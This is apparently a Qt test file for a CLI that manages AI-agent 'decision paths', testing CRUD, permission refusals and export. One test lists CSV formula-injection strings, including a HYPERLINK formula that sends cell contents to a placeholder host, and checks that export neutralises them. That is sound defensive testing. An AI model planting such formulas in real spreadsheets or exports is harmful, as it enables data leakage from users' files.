// gatehousectl paths: list/show/add/update/activate/suspend/retire/export through the CLI,
// including the permission refusals that the services make.

#include <QJsonArray>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QtTest>

#include "CtlHarness.h"
#include "DecisionPathBuilder.h"

using namespace gatehouse;
using namespace gatehouse::test;

namespace {

QString s(const char* text)
{
    return QString::fromUtf8(text);
}

int pathCount(TestWorkspace& ws)
{
    auto list = ws.app().catalogue().list(ws.admin());
    return list ? static_cast<int>(list->size()) : -1;
}

DecisionPath stored(TestWorkspace& ws, const QString& id)
{
    auto p = ws.app().catalogue().get(ws.admin(), id);
    return p ? *p : DecisionPath{};
}

QStringList addArgs(const QString& id)
{
    return {s("paths"),
            s("add"),
            s("--id"),
            id,
            s("--name"),
            s("Reset MFA"),
            s("--owner"),
            s("admin"),
            s("--workload-id"),
            s("spiffe://corp.example/agents/") + id,
            s("--action-type"),
            s("iam.mfa.reset"),
            s("--action-type"),
            s("iam.session.revoke"),
            s("--target"),
            s("idp:user/*"),
            s("--environment"),
            s("production"),
            s("--tier"),
            s("T2"),
            s("--reversibility"),
            s("hard_to_reverse"),
            s("--confidence-threshold"),
            s("0.9"),
            s("--owasp"),
            s("ASI03"),
            s("--csf"),
            s("PR.AA"),
            s("--ai-rmf"),
            s("MANAGE 2.4"),
            s("--maestro"),
            s("L3"),
            s("--review-date"),
            s("2027-01-31")};
}

} // namespace

class PathsCommandTest : public QObject
{
    Q_OBJECT

private slots:
    void init();
    void cleanup();

    void listJsonShape();
    void listEmptyJsonIsEmptyArray();
    void listTableIsAligned();
    void listFilters();
    void showTableAndJson();
    void showUnknownIsRefused();
    void addWithFieldOptions();
    void addWithBadValuesIsRefused_data();
    void addWithBadValuesIsRefused();
    void addFromJson();
    void addNeedsIdOrJson();
    void updateChangesFieldsAndBumpsVersion();
    void updateWithStaleVersionIsRefused();
    void updateFromJsonMustMatchId();
    void lifecycle();
    void activationNamesWhatIsMissing();
    void analystCannotAddPath();
    void managerCannotActivate();
    void ownerCannotChangeSomeoneElsesPath();
    void exportJsonMatchesList();
    void exportCsvNeutralisesFormulas();
    void exportedCsvImportsIntoAnotherWorkspace();

private:
    std::unique_ptr<TestWorkspace> m_ws;
    std::unique_ptr<CtlHarness> m_ctl;
};

void PathsCommandTest::init()
{
    m_ws = std::make_unique<TestWorkspace>();
    QVERIFY2(m_ws->isValid(), qPrintable(m_ws->openError()));
    m_ctl = std::make_unique<CtlHarness>(*m_ws);
}

void PathsCommandTest::cleanup()
{
    m_ctl.reset();
    m_ws.reset();
}

void PathsCommandTest::listJsonShape()
{
    QVERIFY(m_ws->app().catalogue().create(m_ws->admin(),
                                           DecisionPathBuilder(s("soc-isolate-endpoint")).build()));
    QVERIFY(m_ws->app().catalogue().create(m_ws->admin(), DecisionPathBuilder(s("finance-refund"))
                                                              .tier(SeverityTier::T3)
                                                              .actions({s("payment.refund.approve")})
                                                              .build()));
    const auto r = m_ctl->runAs(s("admin"), {s("paths"), s("list"), s("--format"), s("json")});
    QCOMPARE(r.code, 0);
    QVERIFY(r.err.isEmpty());
    const QJsonDocument doc = CtlHarness::json(r.out);
    QVERIFY2(doc.isArray(), qPrintable(r.out));
    const QJsonArray paths = doc.array();
    QCOMPARE(paths.size(), 2);
    for (const auto& v : paths) {
        const QJsonObject o = v.toObject();
        for (const char* key :
             {"id", "name", "description", "owner", "team", "ai_component", "workload_id", "action_types",
              "targets", "environment", "tier", "reversibility", "confidence_threshold", "frameworks",
              "status", "next_review_date", "created_at", "updated_at", "version"})
            QVERIFY2(o.contains(QLatin1String(key)), key);
        QVERIFY(o.value(s("action_types")).isArray());
        QVERIFY(o.value(s("targets")).isArray());
        QVERIFY(o.value(s("frameworks")).toObject().value(s("owasp_agentic")).isArray());
        QCOMPARE(o.value(s("status")).toString(), s("draft"));
        QCOMPARE(o.value(s("reversibility")).toString(), s("reversible"));
        QCOMPARE(o.value(s("owner")).toString(), s("admin"));
    }
    QJsonObject finance;
    for (const auto& v : paths) {
        if (v.toObject().value(s("id")).toString() == s("finance-refund"))
            finance = v.toObject();
    }
    QCOMPARE(finance.value(s("tier")).toString(), s("T3"));
    QCOMPARE(finance.value(s("workload_id")).toString(), s("spiffe://corp.example/agents/finance-refund"));
    QCOMPARE(finance.value(s("action_types")).toArray(), QJsonArray{s("payment.refund.approve")});
    QCOMPARE(finance.value(s("targets")).toArray(), QJsonArray{s("edr:host/*")});
    QCOMPARE(finance.value(s("version")).toInt(), 1);
}

void PathsCommandTest::listEmptyJsonIsEmptyArray()
{
    const auto r = m_ctl->runAs(s("admin"), {s("--format"), s("json"), s("paths"), s("list")});
    QCOMPARE(r.code, 0);
    QVERIFY(CtlHarness::json(r.out).isArray());
    QVERIFY(CtlHarness::json(r.out).array().isEmpty());
}

void PathsCommandTest::listTableIsAligned()
{
    QVERIFY(
        m_ws->app().catalogue().create(m_ws->admin(), DecisionPathBuilder(s("a")).name(s("Short")).build()));
    QVERIFY(m_ws->app().catalogue().create(
        m_ws->admin(),
        DecisionPathBuilder(s("a-much-longer-path-id")).name(s("A rather longer name")).build()));
    const auto r = m_ctl->runAs(s("admin"), {s("paths"), s("list")});
    QCOMPARE(r.code, 0);
    const QStringList lines = r.out.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 4); // header, two rows, count
    QVERIFY(lines[0].startsWith(s("ID ")));
    const qsizetype nameColumn = lines[0].indexOf(s("NAME"));
    const qsizetype tierColumn = lines[0].indexOf(s("TIER"));
    QVERIFY(nameColumn > 0 && tierColumn > nameColumn);
    QCOMPARE(lines[1].indexOf(s("Short")), nameColumn);
    QCOMPARE(lines[2].indexOf(s("A rather longer name")), nameColumn);
    QCOMPARE(lines[1].mid(tierColumn, 2), s("T2"));
    QCOMPARE(lines[2].mid(tierColumn, 2), s("T2"));
    QCOMPARE(lines[3], s("2 paths"));
}

void PathsCommandTest::listFilters()
{
    QVERIFY(m_ws->app().catalogue().create(m_ws->admin(),
                                           DecisionPathBuilder(s("one")).tier(SeverityTier::T1).build()));
    QVERIFY(m_ws->app().catalogue().create(m_ws->admin(),
                                           DecisionPathBuilder(s("two")).tier(SeverityTier::T3).build()));
    QVERIFY(m_ws->app().catalogue().activate(m_ws->admin(), s("two")));
    auto ids = [&](const QStringList& extra) {
        const auto r =
            m_ctl->runAs(s("admin"), QStringList{s("paths"), s("list"), s("--format"), s("json")} + extra);
        QStringList out;
        for (const auto& v : CtlHarness::json(r.out).array())
            out << v.toObject().value(s("id")).toString();
        return out;
    };
    QCOMPARE(ids({s("--tier"), s("T3")}), QStringList{s("two")});
    QCOMPARE(ids({s("--status"), s("draft")}), QStringList{s("one")});
    QCOMPARE(ids({s("--owner"), s("nobody")}), QStringList{});
    QCOMPARE(m_ctl->runAs(s("admin"), {s("paths"), s("list"), s("--tier"), s("T7")}).code, 2);
}

void PathsCommandTest::showTableAndJson()
{
    QVERIFY(m_ws->app().catalogue().create(m_ws->admin(),
                                           DecisionPathBuilder(s("soc-isolate-endpoint")).build()));
    auto r = m_ctl->runAs(s("analyst"), {s("paths"), s("show"), s("soc-isolate-endpoint")});
    QCOMPARE(r.code, 2); // no such account yet
    m_ws->addOperator(s("analyst"), OperatorRole::Analyst);
    r = m_ctl->runAs(s("analyst"), {s("paths"), s("show"), s("soc-isolate-endpoint")});
    QCOMPARE(r.code, 0);
    QVERIFY(r.out.contains(s("workload id:    spiffe://corp.example/agents/soc-isolate-endpoint\n")));
    QVERIFY(r.out.contains(s("tier:           T2 (high)\n")));
    r = m_ctl->runAs(s("analyst"),
                     {s("paths"), s("show"), s("soc-isolate-endpoint"), s("--format"), s("json")});
    QCOMPARE(r.code, 0);
    QCOMPARE(CtlHarness::json(r.out).object().value(s("id")).toString(), s("soc-isolate-endpoint"));
}

void PathsCommandTest::showUnknownIsRefused()
{
    const auto r = m_ctl->runAs(s("admin"), {s("paths"), s("show"), s("nope")});
    QCOMPARE(r.code, 2);
    QVERIFY(r.err.startsWith(s("gatehousectl: ")));
    QVERIFY(r.err.contains(s("nope")));
}

void PathsCommandTest::addWithFieldOptions()
{
    const auto r = m_ctl->runAs(s("admin"), addArgs(s("helpdesk-mfa-reset")));
    QCOMPARE(r.code, 0);
    QCOMPARE(r.out, s("path helpdesk-mfa-reset created (status draft, version 1)\n"));
    const DecisionPath p = stored(*m_ws, s("helpdesk-mfa-reset"));
    QCOMPARE(p.name, s("Reset MFA"));
    QCOMPARE(p.actionTypes, (QStringList{s("iam.mfa.reset"), s("iam.session.revoke")}));
    QCOMPARE(p.targets, QStringList{s("idp:user/*")});
    QCOMPARE(p.tier, std::optional<SeverityTier>(SeverityTier::T2));
    QCOMPARE(p.reversibility, Reversibility::HardToReverse);
    QCOMPARE(p.confidenceThreshold, 0.9);
    QCOMPARE(p.frameworks.owaspAgentic, QStringList{s("ASI03")});
    QCOMPARE(p.frameworks.nistCsf, QStringList{s("PR.AA")});
    QCOMPARE(p.frameworks.nistAiRmf, QStringList{s("MANAGE 2.4")});
    QCOMPARE(p.frameworks.maestroLayers, QStringList{s("L3")});
    QCOMPARE(p.nextReviewDate, QDate(2027, 1, 31));
    QCOMPARE(p.status, PathStatus::Draft);

    // Same id again: the service's conflict comes through with exit 2.
    const auto again = m_ctl->runAs(s("admin"), addArgs(s("helpdesk-mfa-reset")));
    QCOMPARE(again.code, 2);
    QVERIFY(again.err.contains(s("already exists")));
}

void PathsCommandTest::addWithBadValuesIsRefused_data()
{
    QTest::addColumn<QStringList>("extra");
    QTest::addColumn<QString>("message");
    QTest::newRow("tier") << QStringList{s("--tier"), s("T9")} << s("--tier: must be T0, T1, T2 or T3");
    QTest::newRow("reversibility") << QStringList{s("--reversibility"), s("maybe")} << s("--reversibility");
    QTest::newRow("confidence") << QStringList{s("--confidence-threshold"), s("high")}
                                << s("--confidence-threshold");
    QTest::newRow("confidence range")
        << QStringList{s("--confidence-threshold"), s("1.5")} << s("confidence_threshold");
    QTest::newRow("date") << QStringList{s("--review-date"), s("31/01/2027")} << s("--review-date");
    QTest::newRow("slug") << QStringList{s("--id"), s("Not A Slug")} << s("id:");
    QTest::newRow("spiffe") << QStringList{s("--workload-id"), s("https://x.example/a")} << s("workload_id");
    QTest::newRow("action type") << QStringList{s("--action-type"), s("Reset MFA")} << s("action_types");
    QTest::newRow("owasp") << QStringList{s("--owasp"), s("ASI99")} << s("ASI99");
    QTest::newRow("unknown owner") << QStringList{s("--owner"), s("ghost")} << s("ghost");
}

void PathsCommandTest::addWithBadValuesIsRefused()
{
    QFETCH(QStringList, extra);
    QFETCH(QString, message);
    QStringList args{s("paths"), s("add"), s("--id"), s("a-path"), s("--name"), s("A path")};
    if (extra.first() == s("--id"))
        args = QStringList{s("paths"), s("add"), s("--name"), s("A path")};
    const auto r = m_ctl->runAs(s("admin"), args + extra);
    QCOMPARE(r.code, 2);
    QVERIFY2(r.err.contains(message), qPrintable(r.err));
    QVERIFY(r.err.startsWith(s("gatehousectl: ")));
    QCOMPARE(pathCount(*m_ws), 0);
}

void PathsCommandTest::addFromJson()
{
    QTemporaryDir tmp;
    const QString file = tmp.filePath(s("path.json"));
    QFile f(file);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write(R"({"id": "from-file", "name": "From a file", "owner": "admin", "tier": "T1",
               "action_types": ["endpoint.isolate"], "status": "active", "version": 77})");
    f.close();
    auto r =
        m_ctl->runAs(s("admin"), {s("paths"), s("add"), s("--from-json"), file, s("--format"), s("json")});
    QCOMPARE(r.code, 0);
    const QJsonObject o = CtlHarness::json(r.out).object();
    QCOMPARE(o.value(s("id")).toString(), s("from-file"));
    QCOMPARE(o.value(s("status")).toString(), s("draft")); // add always makes a draft
    QCOMPARE(o.value(s("tier")).toString(), s("T1"));

    r = m_ctl->runAs(s("admin"), {s("paths"), s("add"), s("--from-json"), file, s("--name"), s("x")});
    QCOMPARE(r.code, 2);
    QVERIFY(r.err.contains(s("either --from-json or field options")));

    QVERIFY(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
    f.write(R"({"id": "other", "name": "x", "colour": "red"})");
    f.close();
    r = m_ctl->runAs(s("admin"), {s("paths"), s("add"), s("--from-json"), file});
    QCOMPARE(r.code, 2);
    QVERIFY2(r.err.contains(s("unknown field \"colour\"")), qPrintable(r.err));
    QVERIFY(r.err.contains(file));
}

void PathsCommandTest::addNeedsIdOrJson()
{
    const auto r = m_ctl->runAs(s("admin"), {s("paths"), s("add"), s("--name"), s("x")});
    QCOMPARE(r.code, 2);
    QVERIFY(r.err.contains(s("needs --id")));
}

void PathsCommandTest::updateChangesFieldsAndBumpsVersion()
{
    QCOMPARE(m_ctl->runAs(s("admin"), addArgs(s("p1"))).code, 0);
    const auto r = m_ctl->runAs(s("admin"), {s("paths"), s("update"), s("p1"), s("--tier"), s("T3"),
                                             s("--target"), s("idp:admin/*"), s("--target"), s("idp:svc/*"),
                                             s("--review-date"), s(""), s("--format"), s("json")});
    QCOMPARE(r.code, 0);
    const QJsonObject o = CtlHarness::json(r.out).object();
    QCOMPARE(o.value(s("tier")).toString(), s("T3"));
    QCOMPARE(o.value(s("version")).toInt(), 2);
    const DecisionPath p = stored(*m_ws, s("p1"));
    QCOMPARE(p.targets, (QStringList{s("idp:admin/*"), s("idp:svc/*")}));
    QVERIFY(!p.nextReviewDate.isValid()); // an empty value clears the field
    QCOMPARE(p.name, s("Reset MFA"));     // untouched fields keep their values

    const auto nothing = m_ctl->runAs(s("admin"), {s("paths"), s("update"), s("p1")});
    QCOMPARE(nothing.code, 2);
    QVERIFY(nothing.err.contains(s("nothing to change")));
}

void PathsCommandTest::updateWithStaleVersionIsRefused()
{
    QCOMPARE(m_ctl->runAs(s("admin"), addArgs(s("p1"))).code, 0);
    // Someone else changes the path (version 1 -> 2) ...
    DecisionPath other = stored(*m_ws, s("p1"));
    other.team = s("team-a");
    QVERIFY(m_ws->app().catalogue().update(m_ws->admin(), other));
    // ... so an edit prepared against version 1 is refused, and the other change survives.
    const auto r = m_ctl->runAs(
        s("admin"), {s("paths"), s("update"), s("p1"), s("--tier"), s("T0"), s("--expect-version"), s("1")});
    QCOMPARE(r.code, 2);
    QVERIFY2(r.err.startsWith(s("gatehousectl: ")), qPrintable(r.err));
    const DecisionPath p = stored(*m_ws, s("p1"));
    QCOMPARE(p.tier, std::optional<SeverityTier>(SeverityTier::T2));
    QCOMPARE(p.team, s("team-a"));
    QCOMPARE(p.version, 2);

    // An exported JSON file carries its version: editing a stale export is refused too.
    QTemporaryDir tmp;
    const QString file = tmp.filePath(s("p1.json"));
    QFile f(file);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write(R"({"id": "p1", "name": "Renamed", "owner": "admin", "version": 1})");
    f.close();
    const auto stale = m_ctl->runAs(s("admin"), {s("paths"), s("update"), s("p1"), s("--from-json"), file});
    QCOMPARE(stale.code, 2);
    QCOMPARE(stored(*m_ws, s("p1")).name, s("Reset MFA"));
}

void PathsCommandTest::updateFromJsonMustMatchId()
{
    QCOMPARE(m_ctl->runAs(s("admin"), addArgs(s("p1"))).code, 0);
    QTemporaryDir tmp;
    const QString file = tmp.filePath(s("p2.json"));
    QFile f(file);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write(R"({"id": "p2", "name": "Other"})");
    f.close();
    auto r = m_ctl->runAs(s("admin"), {s("paths"), s("update"), s("p1"), s("--from-json"), file});
    QCOMPARE(r.code, 2);
    QVERIFY(r.err.contains(s("describes path 'p2', not 'p1'")));

    QVERIFY(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
    f.write(R"({"id": "p1", "name": "Renamed from JSON", "owner": "admin", "tier": "T1"})");
    f.close();
    const DecisionPath before = stored(*m_ws, s("p1"));
    r = m_ctl->runAs(s("admin"), {s("paths"), s("update"), s("p1"), s("--from-json"), file});
    QCOMPARE(r.code, 0);
    const DecisionPath after = stored(*m_ws, s("p1"));
    QCOMPARE(after.name, s("Renamed from JSON"));
    QCOMPARE(after.tier, std::optional<SeverityTier>(SeverityTier::T1));
    // Keys the file leaves out keep their stored values.
    QVERIFY(!before.actionTypes.isEmpty());
    QCOMPARE(after.actionTypes, before.actionTypes);
    QCOMPARE(after.workloadId, before.workloadId);
    QCOMPARE(after.description, before.description);
    QCOMPARE(after.frameworks, before.frameworks);
}

void PathsCommandTest::lifecycle()
{
    QCOMPARE(m_ctl->runAs(s("admin"), addArgs(s("p1"))).code, 0);
    auto r = m_ctl->runAs(s("admin"), {s("paths"), s("activate"), s("p1")});
    QCOMPARE(r.code, 0);
    QCOMPARE(r.out, s("path p1 active (status active, version 2)\n"));

    r = m_ctl->runAs(s("admin"),
                     {s("paths"), s("suspend"), s("p1"), s("--reason"), s("credential leak under review")});
    QCOMPARE(r.code, 0);
    QCOMPARE(stored(*m_ws, s("p1")).status, PathStatus::Suspended);
    auto events =
        m_ws->app().ledger().events(AuditQuery{s("credential leak under review"), {}, {}, {}, 0, 10});
    QVERIFY(events);
    QCOMPARE(events->size(), 1);
    QCOMPARE(events->first().type, s("path.suspended"));
    QCOMPARE(events->first().actor, s("operator:admin"));

    r = m_ctl->runAs(s("admin"), {s("paths"), s("retire"), s("p1"), s("--reason"), s("replaced"),
                                  s("--format"), s("json")});
    QCOMPARE(r.code, 0);
    QCOMPARE(CtlHarness::json(r.out).object().value(s("status")).toString(), s("retired"));

    r = m_ctl->runAs(s("admin"), {s("paths"), s("activate"), s("p1")});
    QCOMPARE(r.code, 2); // retired is final
    QCOMPARE(stored(*m_ws, s("p1")).status, PathStatus::Retired);
}

void PathsCommandTest::activationNamesWhatIsMissing()
{
    QCOMPARE(
        m_ctl->runAs(s("admin"), {s("paths"), s("add"), s("--id"), s("bare"), s("--name"), s("Bare")}).code,
        0);
    const auto r = m_ctl->runAs(s("admin"), {s("paths"), s("activate"), s("bare")});
    QCOMPARE(r.code, 2);
    for (const char* missing :
         {"owner", "severity tier", "action type", "workload identity", "framework mapping"})
        QVERIFY2(r.err.contains(QLatin1String(missing)), qPrintable(r.err));
    QCOMPARE(stored(*m_ws, s("bare")).status, PathStatus::Draft);
}

void PathsCommandTest::analystCannotAddPath()
{
    m_ws->addOperator(s("analyst1"), OperatorRole::Analyst);
    const auto r = m_ctl->runAs(s("analyst1"), addArgs(s("p1")));
    QCOMPARE(r.code, 2);
    QVERIFY2(r.err.startsWith(s("gatehousectl: analyst1 may not register decision paths")),
             qPrintable(r.err));
    QCOMPARE(pathCount(*m_ws), 0);
}

void PathsCommandTest::managerCannotActivate()
{
    QCOMPARE(m_ctl->runAs(s("admin"), addArgs(s("p1"))).code, 0);
    m_ws->addOperator(s("manager1"), OperatorRole::Manager);
    auto r = m_ctl->runAs(s("manager1"), {s("paths"), s("activate"), s("p1")});
    QCOMPARE(r.code, 2);
    QVERIFY2(r.err.contains(s("manager1 may not change decision path \"p1\"")), qPrintable(r.err));
    QCOMPARE(stored(*m_ws, s("p1")).status, PathStatus::Draft);
    // Reading is allowed.
    r = m_ctl->runAs(s("manager1"), {s("paths"), s("show"), s("p1")});
    QCOMPARE(r.code, 0);
}

void PathsCommandTest::ownerCannotChangeSomeoneElsesPath()
{
    m_ws->addOperator(s("owner-secops"), OperatorRole::Owner);
    m_ws->addOperator(s("owner-finance"), OperatorRole::Owner);
    QStringList args = addArgs(s("p1"));
    args[args.indexOf(s("admin"))] = s("owner-secops");
    QCOMPARE(m_ctl->runAs(s("owner-secops"), args).code, 0);
    auto r = m_ctl->runAs(s("owner-finance"), {s("paths"), s("update"), s("p1"), s("--tier"), s("T0")});
    QCOMPARE(r.code, 2);
    QVERIFY(r.err.contains(s("owned by owner-secops")));
    r = m_ctl->runAs(s("owner-secops"), {s("paths"), s("activate"), s("p1")});
    QCOMPARE(r.code, 0);
}

void PathsCommandTest::exportJsonMatchesList()
{
    QCOMPARE(m_ctl->runAs(s("admin"), addArgs(s("p1"))).code, 0);
    QCOMPARE(m_ctl->runAs(s("admin"), addArgs(s("p2"))).code, 0);
    const auto exported = m_ctl->runAs(s("admin"), {s("paths"), s("export")});
    const auto listed = m_ctl->runAs(s("admin"), {s("paths"), s("list"), s("--format"), s("json")});
    QCOMPARE(exported.code, 0);
    QCOMPARE(CtlHarness::json(exported.out).array(), CtlHarness::json(listed.out).array());
}

void PathsCommandTest::exportCsvNeutralisesFormulas()
{
    // FIELD-CASES 11: agent-supplied text that a spreadsheet would run.
    const QStringList hostile = {s("=1+2"),
                                 s("+SUM(1,1)"),
                                 s("-3+4"),
                                 s("@NOW()"),
                                 s("\t=1+1"),
                                 s("\r=1+1"),
                                 s("=HYPERLINK(\"https://example.invalid/?q=\"&A1,\"open\")"),
                                 s("a \"quoted\"\nline")};
    for (int i = 0; i < hostile.size(); ++i) {
        DecisionPath p = DecisionPathBuilder(s("hostile-%1").arg(i)).build();
        p.description = hostile[i];
        QVERIFY(m_ws->app().catalogue().create(m_ws->admin(), p));
    }
    QTemporaryDir tmp;
    const QString file = tmp.filePath(s("paths.csv"));
    auto r = m_ctl->runAs(s("admin"), {s("paths"), s("export"), s("--out"), file});
    QCOMPARE(r.code, 0);
    QVERIFY(r.out.startsWith(s("exported paths to ")));
    QFile f(file);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QByteArray csv = f.readAll();
    QVERIFY(csv.startsWith("id,name,description,"));
    for (const char* cell :
         {"\"'=1+2\"", "\"'+SUM(1,1)\"", "\"'-3+4\"", "\"'@NOW()\"", "\"'\t=1+1\"", "\"'\r=1+1\"",
          "\"'=HYPERLINK(\"\"https://example.invalid/?q=\"\"&A1,\"\"open\"\")\"",
          "\"a \"\"quoted\"\"\nline\""})
        QVERIFY2(csv.contains(cell), cell);
    QVERIFY(csv.contains(",0.8,")); // numeric column not prefixed

    // JSON carries the original strings.
    r = m_ctl->runAs(s("admin"), {s("paths"), s("export"), s("--json")});
    QCOMPARE(r.code, 0);
    QStringList descriptions;
    for (const auto& v : CtlHarness::json(r.out).array())
        descriptions << v.toObject().value(s("description")).toString();
    for (const auto& h : hostile)
        QVERIFY(descriptions.contains(h));

    QCOMPARE(m_ctl->runAs(s("admin"), {s("paths"), s("export"), s("--csv"), s("--json")}).code, 2);
}

void PathsCommandTest::exportedCsvImportsIntoAnotherWorkspace()
{
    QCOMPARE(m_ctl->runAs(s("admin"), addArgs(s("p1"))).code, 0);
    QCOMPARE(m_ctl->runAs(s("admin"), {s("paths"), s("activate"), s("p1")}).code, 0);
    DecisionPath formula = DecisionPathBuilder(s("p2")).build();
    formula.description = s("=1+2 stays text");
    QVERIFY(m_ws->app().catalogue().create(m_ws->admin(), formula));

    QTemporaryDir tmp;
    const QString file = tmp.filePath(s("catalogue.csv"));
    QCOMPARE(m_ctl->runAs(s("admin"), {s("paths"), s("export"), s("--out"), file}).code, 0);

    TestWorkspace other;
    QVERIFY(other.isValid());
    CtlHarness ctl2(other);
    const auto r = ctl2.runAs(s("admin"), {s("paths"), s("import"), file});
    QCOMPARE(r.code, 0);
    QCOMPARE(r.out, s("imported 2 paths from %1\n").arg(file));
    QCOMPARE(stored(other, s("p1")).status, PathStatus::Active);
    QCOMPARE(stored(other, s("p2")).description, s("=1+2 stays text"));
    QCOMPARE(stored(other, s("p1")).actionTypes, stored(*m_ws, s("p1")).actionTypes);
}

QTEST_GUILESS_MAIN(PathsCommandTest)
#include "PathsCommandTest.moc"
